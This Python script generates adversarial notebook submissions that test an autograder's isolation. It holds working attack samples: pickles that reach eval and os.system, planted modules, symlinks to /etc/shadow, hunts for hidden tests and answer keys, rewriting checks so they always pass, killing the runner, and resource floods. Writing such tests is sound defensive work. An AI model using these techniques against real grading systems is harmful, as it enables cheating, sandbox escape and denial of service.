"""Regenerate the crafted bad submissions from the fixture lab (tests/grading/fixtures/grading/99-fixture.ipynb).

    python tests/grading/bad_submissions/make_bad_submissions.py

Each starts from a perfect submission (the student notebook with the master's solutions filled in)
and breaks it one way. The expected scores live in tests/grading/test_grading_bad_submissions.py.
"""

import copy
import json
import os
import sys
import tempfile
from pathlib import Path

import nbformat as nbf

HERE = Path(__file__).resolve().parent
MASTER = HERE.parent / "fixtures" / "grading" / "99-fixture.ipynb"


def perfect_submission() -> nbf.NotebookNode:
    from mptcplab.grading import autograder

    with tempfile.TemporaryDirectory() as tmp:
        student = autograder.otter_assign(MASTER, Path(tmp) / "assign")
        solution = Path(tmp) / "assign" / "autograder" / MASTER.name
        return autograder.filled_student_notebook(student, solution)


def answer(nb, var):
    return next(c for c in nb.cells if c.cell_type == "code" and c.source.lstrip().startswith(var + " ="))


def syntax_error(nb):
    answer(nb, "peak").source = "peak = data['mbps'].max(  # forgot to close the bracket"


def infinite_loop(nb):
    answer(nb, "peak").source = "while True:\n    pass\npeak = 40.0"


def deleted_checks(nb):
    nb.cells = [c for c in nb.cells if "grader.check" not in c.source]


def edited_checks(nb):
    answer(nb, "peak").source = "peak = data['mbps'].mean()  # wrong on purpose"
    answer(nb, "per_kib").source = "per_kib = data"
    for c in nb.cells:
        if "grader.check" in c.source:
            c.source = "grader.check = lambda *a, **k: print('All tests passed!')\n" + c.source
    always = [{"code": ">>> True\nTrue\n", "hidden": False, "locked": False}]
    for t in nb.metadata["otter"]["tests"].values():
        t["suites"][0]["cases"] = always


def enormous_output(nb):
    nb.cells.insert(3, nbf.v4.new_code_cell(
        "print('x' * 50_000_000)\nfor i in range(20_000):\n    print('line', i, 'y' * 200)\n"
        "with open('huge.bin', 'wb') as f:\n    f.write(b'0' * (512 * 1024 * 1024))"))


def read_hidden_tests(nb):
    # The kit's own tree is found from the interpreter (the venv lives in the checkout), so the walk
    # covers the kit's code and guides wherever it is cloned (/work here, /check/... in CI).
    nb.cells.insert(3, nbf.v4.new_code_cell('''import glob, os, sys
found = []
kit = os.path.dirname(sys.prefix)
patterns = [kit + "/**", kit + "/**/tests/*.py", kit + "/**/solutions/*.ipynb", kit + "/.git/**", "/work/**", "/work/**/tests/*.py", "/work/**/*autograder*.zip", "/work/**/solutions/*.ipynb", "/work/**/build/assign/**",
            "/vagrant/solutions/*.ipynb", "/vagrant/build/**", "/vagrant/tests/**", "/tmp/**", "/root/**", "/home/**",
            "../solutions/*.ipynb", "../build/**", "../tests/**", "../.git/**"]
for pat in patterns:
    found += [p for p in glob.glob(pat, recursive=True) if os.path.isfile(p)][:50]
secret = []
for p in found:
    try:
        if "HIDDEN-FIXTURE-" + "SECRET" in open(p, errors="replace").read():  # the hidden tests' marker, split here
            secret.append(p)
    except OSError:
        pass
print("files found:", len(found), "holding hidden tests:", secret or "none")
for p in found:
    try:
        open(p, "a").write("\\n# tampered")
        print("wrote to", p)
    except OSError:
        pass'''))
    answer(nb, "peak").source = "peak = 0"


def network_access(nb):
    nb.cells.insert(3, nbf.v4.new_code_cell('''import socket, urllib.request
for target in [("1.1.1.1", 53), ("10.0.2.2", 22), ("example.com", 80)]:
    try:
        socket.create_connection(target, timeout=3).close()
        print("NETWORK REACHED", target)
    except Exception as exc:
        print("blocked", target, type(exc).__name__)
try:
    urllib.request.urlopen("http://example.com", timeout=3)
    print("NETWORK REACHED http")
except Exception as exc:
    print("blocked http", type(exc).__name__)'''))


def memory_hog(nb):
    nb.cells.insert(3, nbf.v4.new_code_cell("hog = bytearray(16 * 1024 ** 3)"))


# ---------------------------------------------------------------- crafted exploits (issue 13), one per class

def replace_checker(nb):
    """1. Plant modules where a checker run from the submission's folder would import them."""
    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import os, sys
fake = ("import json, sys\ntests = sys.stdin.read()\n"
        "json.dump({'questions': [{'question': q, 'score': 99.0, 'possible': 1.0, 'cases': [{'name': q, 'hidden': False, "
        "'passed': False, 'message': 'LEAKED ' + tests}]} for q in ('q1', 'q2')], 'skipped': {}, 'note': ''}, sys.stdout)\n")
planted = []
for base in (os.getcwd(), "/tmp", os.path.expanduser("~")):
    for rel in ("mptcplab/grading/checker.py", "mptcplab/__init__.py", "mptcplab/grading/__init__.py", "otter/__init__.py",
                "sitecustomize.py", "usercustomize.py", "numpy.py", "json.py"):
        path = os.path.join(base, rel)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(fake if rel.endswith("checker.py") else "import sys; print('PLANTED MODULE RAN', file=sys.stderr)\n")
            planted.append(path)
        except OSError:
            pass
print("planted", len(planted), "modules")"""))
    answer(nb, "peak").source = "peak = 0"


def pickle_walk(nb):
    """2. Replace the runner's value dump with hand-made pickles that walk attributes to code."""
    nb.cells.append(nbf.v4.new_code_cell(r"""import json, os
def _walk(module, name, arg):  # protocol 4: PROTO, module, name, STACK_GLOBAL, arg, TUPLE1, REDUCE, STOP
    s = lambda t: b"\x8c" + bytes([len(t)]) + t.encode()
    return b"\x80\x04" + s(module) + s(name) + b"\x93" + s(arg) + b"\x85R."
_vals = "/var/mlab-values"
get_ipython().events.callbacks["post_run_cell"].clear()  # no snapshot after this cell: only the dump below
def _mlab_dump():
    index = {"values": {}, "funcs": {}, "refs": {"np": ["module", "numpy", ""], "pd": ["module", "pandas", ""]},
             "oversized": {}, "unsaved": {}}
    crafted = {"peak": _walk("pandas.core.common", "builtins.eval", "__import__('os').system('touch /tmp/PWNED') or 40.0"),
               "walk2": _walk("numpy", "core.multiarray.os.system", "touch /tmp/PWNED2"),
               "walk3": _walk("plotly.graph_objs", "Figure.__init__.__globals__", "x"),
               "walk4": _walk("builtins", "eval", "40.0"),
               "per_kib": __import__("pickle").dumps(per_kib, protocol=4)}
    for i, (k, v) in enumerate(crafted.items()):
        p = os.path.join(_vals, f"c{i}.pkl")
        open(p, "wb").write(v)
        index["values"][k] = p
    json.dump(index, open(os.path.join(_vals, "index.json"), "w"))"""))


def answer_key(nb):
    """3. Reach the kit's answer keys: call them, read their source, their bytecode, the answer columns."""
    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import glob, inspect, os, importlib.util
from mptcplab.labs.lab3 import models
from mptcplab.labs.lab3 import notebook as nb3
from mptcplab.labs.lab3 import analysis as la3
for f in (lambda: models.parallel_per_flow(2, 0.01, 0.1, 0.3), lambda: models.per_flow_terms(2, 0.01, 0.1, 0.3),
          lambda: models.parallel_cumulative(2, 0.01, 0.02, 0.1, 0.3), lambda: nb3.model1_reference(),
          lambda: nb3.loss_events_reference()):
    try:
        print("ANSWER KEY GAVE", f())
    except Exception as exc:
        print("refused:", type(exc).__name__)
src = open(models.__file__).read() + inspect.getsource(models)
print("formula visible:", "24 * n * n" in src)
pyc = glob.glob(os.path.join(os.path.dirname(models.__file__), "__pycache__", "models*.pyc"))
print("bytecode files:", len(pyc))
import pandas as _pd
from mptcplab.run.lab import REPO_ROOT
cols = list(_pd.read_csv(REPO_ROOT / "solutions" / "results" / "lab3" / "runs.csv").columns)
print("answer columns:", [c for c in cols if c in ("model1", "model2", "err_model1", "err_model2")])"""))


def tree_memory(nb):
    """4a. Five children of 700 MB each: fine per process, too much together."""
    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import subprocess, sys
code = "import time; b = bytearray(700 * 1024 * 1024); b[::4096] = b'x' * len(b[::4096]); time.sleep(20)"
kids = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(5)]
print("exit codes:", [k.wait() for k in kids])"""))


def disk_flood(nb):
    """4b. Write 5 GiB into the copy's folder, /tmp and /dev/shm, and 6 GB to fds 1 and 2."""
    nb.cells.insert(3, nbf.v4.new_code_cell(r"""import os
wrote = 0
for d in (".", "/tmp", "/dev/shm"):
    for i in range(80):
        try:
            with open(os.path.join(d, f"fill{i}.bin"), "wb") as f:
                f.write(b"\1" * ((64 << 20) - 1))
            wrote += (64 << 20) - 1
        except OSError:
            break
print("wrote MiB:", wrote >> 20)"""))
    nb.cells.insert(4, nbf.v4.new_code_cell(r"""for d in (".", "/tmp", "/dev/shm"):  # a full /tmp would leave no room to save its own values
    for i in range(80):
        if os.path.exists(os.path.join(d, f"fill{i}.bin")):
            os.remove(os.path.join(d, f"fill{i}.bin"))"""))
    nb.cells.insert(5, nbf.v4.new_code_cell(r"""chunk = b"E" * (1 << 20)
for _ in range(3000):  # 3 GB on each of the OS-level stdout and stderr
    os.write(1, chunk)
    os.write(2, chunk)"""))


def big_global(nb):
    """5. A correct notebook with one 72 MB array."""
    nb.cells.insert(3, nbf.v4.new_code_cell("big = np.ones(9_000_000)  # 72 MB"))


def symlink_out(nb):
    """6. Links where the runner keeps values and where older graders kept their output."""
    nb.cells.append(nbf.v4.new_code_cell(r"""import os
for link, target in ((".mlab-out", "/root"), ("executed.ipynb", "/etc/shadow"), ("/var/mlab-values/index.json", "/etc/passwd")):
    try:
        os.makedirs(os.path.dirname(link) or ".", exist_ok=True)
        if os.path.lexists(link):
            os.unlink(link)
        os.symlink(target, link)
    except OSError as exc:
        print("no link", link, type(exc).__name__)
_orig = _mlab_dump
def _mlab_dump():
    import json
    _orig()
    p = json.load(open("/var/mlab-values/index.json"))["values"]["peak"]
    os.unlink(p)
    os.symlink("/etc/passwd", p)"""))


def sigint_runner(nb):
    """7a. SIGINT the runner, then a cell that ignores SIGINT and never ends: values computed before survive."""
    nb.cells.insert(len(nb.cells), nbf.v4.new_code_cell(r"""import os, signal
os.kill(os.getppid(), signal.SIGINT)
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass"""))


def malformed_cell(nb):
    """7b. A cell whose source is a number, not text."""
    nb.cells.insert(3, nbf.v4.new_code_cell("placeholder"))
    nb.cells[3]["source"] = 12345


TCP_HOG = r"""import socket
_listener = socket.create_server(("127.0.0.1", 0))
_pairs, queued = [], 0
for _ in range(64):
    _a = socket.create_connection(_listener.getsockname())
    _b, _ = _listener.accept()
    _a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    _b.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    _a.setblocking(False)
    _pairs.append((_a, _b))
    try:
        while True:
            queued += _a.send(b"x" * 65536)
    except OSError:
        pass
print("queued MiB:", queued >> 20, flush=True)"""  # also run bare by test_grading_isolation (one source)


def tcp_hog(nb):
    """Issue 40, 7. Fill loopback TCP buffers (64 connections, 4 MiB buffers, never read) and hold them."""
    nb.cells.insert(3, nbf.v4.new_code_cell(TCP_HOG))


# ---------------------------------------------------------------- issue 40, 6: built at test time (one UID, in turn)

KEYS = r"""import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
_persistent = _libc.syscall(_KEYCTL, 22, -1, -3)  # KEYCTL_GET_PERSISTENT into the session keyring
_RINGS = {"user": -4, "user-session": -5, "session": -3, "persistent": _persistent}
_PLACES = ["/tmp/mlab-left", "/dev/shm/mlab-left", os.path.expanduser("~/mlab-left"), "mlab-left", "/var/tmp/mlab-left"]
_SHM_KEY = 0x4D4C4142
"""


def keyring_writer(nb):
    """Leave a key in every keyring the UID has, files wherever it can write, a SysV segment."""
    nb.cells.insert(3, nbf.v4.new_code_cell(KEYS + r"""left = []
for _name, _ring in _RINGS.items():
    if _libc.syscall(_ADD_KEY, b"user", b"mlab-left", b"LEFT-BEHIND", 11, ctypes.c_long(_ring)) > 0:
        left.append(_name)
for _p in _PLACES:
    try:
        open(_p, "w").write("LEFT-BEHIND")
        left.append(_p)
    except OSError:
        pass
if _libc.shmget(_SHM_KEY, 4096, 0o1666) >= 0:  # IPC_CREAT | 0666
    left.append("sysv-shm")
print("left:", " ".join(left))"""))


def keyring_reader(nb):
    """Look for what a writer graded before under the same UID left."""
    nb.cells.insert(3, nbf.v4.new_code_cell(KEYS + r"""found = []
for _name, _ring in _RINGS.items():
    if _libc.syscall(_KEYCTL, 10, ctypes.c_long(_ring), b"user", b"mlab-left", 0) > 0:  # KEYCTL_SEARCH
        found.append(_name)
found += [_p for _p in _PLACES if os.path.exists(_p)]
if _libc.shmget(_SHM_KEY, 0, 0) >= 0:
    found.append("sysv-shm")
print("found:", " ".join(found) or "nothing")"""))


def place_unreadable(dest: Path, master: Path, secret: Path) -> dict[str, str]:
    """Issue 40, 4 and 5: what an LMS archive can hold besides notebooks, made in dest at test time
    (git holds no FIFO; links point into this machine). `secret` is a root-only file of the test's.
    Returns file name -> the reason its row must give."""
    (dest / "master_link.ipynb").symlink_to(master)  # graded 20/20 `ok` with every hidden test, once
    (dest / "shadow_link.ipynb").symlink_to("/etc/shadow")
    (dest / "dangling.ipynb").symlink_to(dest / "nowhere.ipynb")
    os.link(secret, dest / "hard_link.ipynb")  # a second name of a root-only file
    os.mkfifo(dest / "fifo.ipynb")  # hung the batch for ever
    (dest / "folder.ipynb").mkdir()  # crashed the batch
    (dest / "garbage.ipynb").write_bytes(os.urandom(2048))
    return {"master_link.ipynb": "a symbolic link, not a notebook", "shadow_link.ipynb": "a symbolic link, not a notebook",
            "dangling.ipynb": "a symbolic link, not a notebook",
            "hard_link.ipynb": "a hard link (one of 2 names of one file), not a notebook of its own",
            "fifo.ipynb": "a FIFO (named pipe), not a notebook", "folder.ipynb": "a directory, not a notebook",
            "garbage.ipynb": "its lab cannot be told"}


NOTES = {
    syntax_error: "a syntax error in the q1 answer; q2 is right.",
    infinite_loop: "an endless loop in q1: that cell is stopped at the cell time limit, the rest still runs.",
    deleted_checks: "right answers, every check cell deleted: the checks run anyway.",
    edited_checks: "wrong answers; check cells and the notebook's public tests rewritten to always pass.",
    enormous_output: "prints ~55 MB and tries to write a 512 MiB file, then answers correctly.",
    read_hidden_tests: "hunts the filesystem for hidden tests and tries to rewrite them; q1 wrong.",
    network_access: "tries to reach the network, then answers correctly.",
    memory_hog: "allocates 16 GiB, then answers correctly.",
    replace_checker: "plants checker.py, otter, numpy, sitecustomize modules where a checker might import them; q1 wrong.",
    pickle_walk: "replaces the value dump with pickles that walk attributes to eval/os.system; answers q2 only.",
    answer_key: "calls the kit's answer-key functions, reads their source and bytecode, looks for answer columns; answers correctly.",
    tree_memory: "five 700 MB children at once, then answers correctly.",
    disk_flood: "writes 5 GiB to its folder, /tmp and /dev/shm and 6 GB to fds 1/2, then answers correctly.",
    big_global: "answers correctly and keeps a 72 MB array in a global.",
    symlink_out: "replaces its output places and saved values with links to /root, /etc/shadow, /etc/passwd; answers q2 only.",
    sigint_runner: "answers correctly, then SIGINTs the runner and loops forever ignoring SIGINT.",
    malformed_cell: "answers correctly; one cell's source is a number.",
    tcp_hog: "fills 64 loopback TCP connections' buffers and holds them, then answers correctly.",
}


def main() -> int:
    base = perfect_submission()
    for make, note in NOTES.items():
        nb = copy.deepcopy(base)
        make(nb)
        nb.cells.insert(1, nbf.v4.new_markdown_cell(f"**Crafted bad submission (grader tests):** {note}"))
        (HERE / f"{make.__name__}.ipynb").write_text(json.dumps(nb, indent=1))  # no validation: some are malformed
    (HERE / "not_a_notebook.ipynb").write_text('{"cells": [ this is not json\n')
    for name in ("dup a", "dup_a"):  # two names, one id
        nbf.write(copy.deepcopy(base), HERE / f"{name}.ipynb")
    with tempfile.TemporaryDirectory() as tmp:  # the handed-out notebook, unanswered
        from mptcplab.grading import autograder

        nbf.write(nbf.read(autograder.otter_assign(MASTER, Path(tmp) / "assign"), 4), HERE / "unfilled.ipynb")
    return 0


if __name__ == "__main__":
    sys.exit(main())
